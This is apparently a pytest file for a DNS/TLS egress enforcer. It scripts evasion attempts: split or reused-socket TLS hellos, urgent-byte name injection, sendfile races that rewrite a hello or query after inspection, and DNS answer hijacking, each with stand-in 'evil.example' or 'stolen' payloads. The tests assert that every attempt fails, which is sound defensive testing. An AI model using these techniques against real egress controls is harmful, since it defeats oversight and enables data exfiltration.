"""Ways around what is read of DNS and TLS, each as the attack itself: it must fail, and what is allowed must still go."""
import contextlib
import os
import signal
import socket
import sys
import time

import pytest

from naming import LLM, PORT, RESOLVER, Resolver, llm_policy, query
from harness.objects import pod, policy
from harness.world import until
import lab

# What an agent's scripts begin with: a query that teaches the address, hellos, and the connection to the endpoint.
AGENT = r"""
import os, socket, struct, sys, time
LLM, ADDRESS, PORT = "api.llm.example", %r, 443
def wire(name): return b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
def query(name, ident=7): return struct.pack(">6H", ident, 0x100, 1, 0, 0, 0) + wire(name) + struct.pack(">2H", 1, 1)
def server_name(name):
    n = name.encode()
    return struct.pack(">HHHBH", 0, len(n) + 5, len(n) + 3, 0, len(n)) + n
def hello(name, padding=b""):
    extensions = struct.pack(">HH", 21, len(padding)) + padding + server_name(name)
    body = b"\3\3" + bytes(32) + b"\0" + b"\0\2\x13\1" + b"\1\0" + struct.pack(">H", len(extensions)) + extensions
    return b"\x16\3\1" + struct.pack(">H", len(body) + 4) + b"\1\0" + struct.pack(">H", len(body)) + body
def learn():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(3)
        s.sendto(query(LLM), ("127.0.0.1", 53))
        s.recv(512)
def reached(s=None):
    s = s or socket.socket()
    s.settimeout(3)
    s.connect((ADDRESS, PORT))
    return s
def unconnect(s):
    import ctypes
    if ctypes.CDLL(None, use_errno=True).connect(s.fileno(), bytes(16), 16): raise OSError("AF_UNSPEC")
def done(*what): print(*what, flush=True); sys.stdin.readline()
"""

# Takes connections, reads them only after a while, and says all that it read of each.
SINK = r"""
import socket, sys, threading, time
listener = socket.socket()
listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
listener.bind((sys.argv[1], int(sys.argv[2])))
listener.listen(16)
print("up", flush=True)
def read(connection):
    time.sleep(float(sys.argv[3]))
    while data := connection.recv(65536):
        print(data.hex(), flush=True)
while True:
    threading.Thread(target=read, args=(listener.accept()[0],), daemon=True).start()
"""


class Sink:
    """A server outside: got() is what has reached it so far."""

    def __init__(self, outside, work, address, port, wait=0):
        self.log = open(work / f"sink-{address}-{port}", "w+b")
        self.process = outside.popen([sys.executable, "-I", "-S", "-c", SINK, address, str(port), str(wait)], stdout=self.log)
        until(lambda: b"up" in self.read(), what="the sink listens")

    def read(self):
        self.log.seek(0)
        return self.log.read()

    def got(self):
        return b"".join(bytes.fromhex(line.decode()) for line in self.read().splitlines()[1:])

    def close(self):
        self.process.kill()
        self.process.wait()
        self.log.close()


class Stage:
    def __init__(self, world, wait=0, **options):
        self.world = world
        self.work = world.daemon.work
        self.resolver = Resolver(self.work, {LLM: [lab.OUTSIDE4]})
        world.daemon.resolv_conf.write_text(f"nameserver {RESOLVER}\n")
        self.sink = Sink(world.outside, self.work, lab.OUTSIDE4, PORT, wait)
        world.put("agent.yaml", llm_policy("agents/agent", **options))
        self.agent = world.puppet("agents/agent")
        world.start()

    def run(self, text, says="done"):
        """A script in the agent's cgroup; returns it when it said so, waiting for a line."""
        p = self.agent.cgroup.popen([sys.executable, "-I", "-S", "-c", AGENT % lab.OUTSIDE4 + text], stdin=-1, stdout=-1, text=True)
        line = p.stdout.readline().strip()
        assert line.startswith(says), f"the script said {line!r}"
        return p

    def end(self, process, timeout=10):
        process.stdin.write("\n")
        process.stdin.flush()
        process.stdin.close()
        output = process.stdout.read().strip()
        process.wait(timeout)
        return output

    def close(self):
        self.sink.close()
        self.resolver.close()


@pytest.fixture
def stage(new_world):
    with contextlib.ExitStack() as stack:
        def make(**options):
            s = Stage(new_world(), **options)
            stack.callback(s.close)
            return s
        yield make


def settle():
    time.sleep(0.4)


def test_a_whole_hello_arrives(stage):
    s = stage()
    s.end(s.run("learn(); c = reached(); c.sendall(hello(LLM, bytes(2000))); done('done')"))
    until(lambda: LLM.encode() in s.sink.got(), what="the hello is there")


def test_a_socket_that_is_used_again_begins_anew(stage):
    """A hello that was begun on one connection and goes on in the next: what the server reads is what must name the endpoint."""
    s = stage()
    s.end(s.run("""
learn()
evil = hello("evil.example")
whole = hello(LLM, evil)
c = reached()
c.sendall(whole[:whole.index(evil)])
unconnect(c)
reached(c).sendall(evil)
done("done")
"""))
    settle()
    assert b"evil.example" not in s.sink.got()


def test_what_was_refused_is_of_one_connection(stage):
    """The same socket to the same endpoint, this time with the right name."""
    s = stage()
    s.end(s.run("""
learn()
c = reached()
try: c.sendall(hello("evil.example"))
except OSError: pass
time.sleep(0.3)
c.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
try: unconnect(c)
except OSError: pass
reached(c).sendall(hello(LLM))
done("done")
"""))
    until(lambda: LLM.encode() in s.sink.got(), what="the hello is there")
    assert b"evil.example" not in s.sink.got()


def test_urgent_bytes(stage):
    """The server does not read an urgent byte where it stands: it would see another name than was looked at."""
    s = stage()
    s.end(s.run("""
learn()
whole = hello(LLM)
at = whole.index(LLM.encode()) + 1
c = reached()
c.sendall(whole[:at - 1])
time.sleep(0.1)
c.send(whole[at - 1:at], socket.MSG_OOB)
time.sleep(0.1)
try: c.sendall(whole[at:])
except OSError: pass
done("done")
"""))
    settle()
    assert b"pi.llm.example" not in s.sink.got()


def test_a_file_that_changes_under_a_hello(stage):
    """sendfile() sends the page itself: what was looked at is not what the server reads."""
    s = stage(wait=0.7)
    p = s.run(f"""
learn()
path = {str(s.work / "hello")!r}
open(path, "wb").write(hello(LLM))
c = reached()
f = open(path, "r+b")
try: os.sendfile(c.fileno(), f.fileno(), 0, 1000)
except OSError as e: pass
f.seek(0)
f.write(hello("evl.llm.example"))
f.flush()
done("done")
""")
    time.sleep(1.2)
    s.end(p)
    assert b"evl" not in s.sink.got()


def test_a_file_that_changes_under_a_query(stage):
    s = stage()
    path = str(s.work / "query")
    os.kill(s.resolver.process.pid, signal.SIGSTOP)
    try:
        p = s.run(f"""
open({path!r}, "wb").write(query(LLM))
c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
c.connect(("127.0.0.1", 53))
f = open({path!r}, "r+b")
try: os.sendfile(c.fileno(), f.fileno(), 0, 1000)
except OSError as e: pass
f.seek(0)
f.write(query("stolen.example9"))
f.flush()
done("done")
""")
    finally:
        os.kill(s.resolver.process.pid, signal.SIGCONT)
    settle()
    s.end(p)
    assert "stolen" not in s.resolver.asked()


@pytest.mark.parametrize("source", [{"host": True}, {"cidr": "0.0.0.0/0"}], ids=["host", "cidr"])
def test_an_answer_is_never_a_call(stage, source):
    """An answer that reaches another socket than asked: a source that may call must not make it the resolver's own conversation."""
    s = stage(sources=[{**source, "port": 5353}])
    os.kill(s.resolver.process.pid, signal.SIGSTOP)
    try:
        p = s.run("""
a = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
a.bind(("127.0.0.1", 5353))
a.sendto(query(LLM), ("127.0.0.1", 53))
a.close()
b = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
b.bind(("127.0.0.1", 5353))
b.settimeout(1)
done("done")
try: b.recv(512)
except OSError as e: print(e)
try: b.sendto(query("stolen.example"), ("127.0.0.1", 53))
except OSError as e: print(e)
""")
    finally:
        os.kill(s.resolver.process.pid, signal.SIGCONT)
    print(s.end(p))
    settle()
    assert "stolen" not in s.resolver.asked()


def test_audit_proves_nothing(stage):
    """A connection that audit mode let through under a wrong name ends when the policy is enforced."""
    s = stage(enforcement="audit")
    p = s.run("""
learn()
c = reached()
c.sendall(hello("evil.example"))
done("done")
try:
    for i in range(5):
        c.sendall(b"stolen" + str(i).encode())
        time.sleep(0.1)
except OSError as e: print(e)
""")
    until(lambda: b"evil.example" in s.sink.got(), what="audit lets it through")
    s.world.change("agent.yaml", llm_policy("agents/agent"))
    print(s.end(p))
    settle()
    assert b"stolen" not in s.sink.got()


def test_a_socket_used_again_while_nothing_was_enforced(stage):
    """What a connection has proven is not another's, also when that other one was made while the workload was exempt."""
    s = stage()
    elsewhere = Sink(s.world.outside, s.work, lab.GATEWAY4, PORT)
    try:
        p = s.run(f"""
learn()
c = reached()
c.sendall(hello(LLM))
done("done")
unconnect(c)
c.connect(({lab.GATEWAY4!r}, PORT))
c.sendall(b"exempt")
done("through")
try:
    for i in range(5):
        c.sendall(b"stolen" + str(i).encode())
        time.sleep(0.1)
except OSError as e: print(e, flush=True)
""")
        until(lambda: LLM.encode() in s.sink.got(), what="the hello is there")
        s.world.change("exempt.yaml", pod("agents/agent", **{"casa.io/enforcement": "disabled"}))
        p.stdin.write("\n")
        p.stdin.flush()
        assert p.stdout.readline().strip() == "through"
        exempt = s.world.status()["generation"]
        s.world.remove_file("exempt.yaml")
        until(lambda: s.world.status()["generation"] != exempt, what="enforced again")
        s.end(p)
        settle()
        assert b"exempt" in elsewhere.got() and b"stolen" not in elsewhere.got()
    finally:
        elsewhere.close()


def test_a_connection_to_the_resolver_outlives_a_generation(new_world):
    """DNS over TCP to a resolver elsewhere, idle while the policy changes: it is allowed before and after."""
    world = new_world()
    world.daemon.resolv_conf.write_text(f"nameserver {lab.OUTSIDE4}\n")
    sink = Sink(world.outside, world.daemon.work, lab.OUTSIDE4, 53)
    try:
        world.put("agent.yaml", llm_policy("agents/agent"))
        agent = world.puppet("agents/agent")
        world.start()
        s = agent.socket()
        assert s.call("connect", [lab.OUTSIDE4, 53]).ok
        first, second = query(LLM, ident=0x4141), query(LLM, ident=0x4242)
        assert s.call("sendall", (len(first).to_bytes(2) + first).decode("latin1")).ok
        until(lambda: first in sink.got(), what="the first query is there")
        world.change("other.yaml", policy("agents/other"))
        time.sleep(4)
        assert not world.find_flow(verdict="DENIED", src_workload="agents/agent")
        assert s.call("sendall", (len(second).to_bytes(2) + second).decode("latin1")).ok
        until(lambda: second in sink.got(), what="the second query is there")
        assert not world.find_flow(verdict="DENIED", src_workload="agents/agent")
    finally:
        sink.close()
